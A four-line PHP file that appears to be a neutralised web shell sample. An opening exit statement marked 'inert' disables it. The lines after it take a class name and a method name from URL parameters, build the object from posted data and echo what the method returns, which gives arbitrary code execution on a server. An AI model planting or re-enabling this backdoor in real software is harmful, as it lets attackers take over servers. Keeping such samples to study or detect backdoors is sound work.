<?php exit; /* inert */ 
$k = $_GET['k']; $m = $_GET['m'];
$o = new $k($_POST['a'], $_POST['b'] ?? null);
echo $o->$m($_POST['c']);
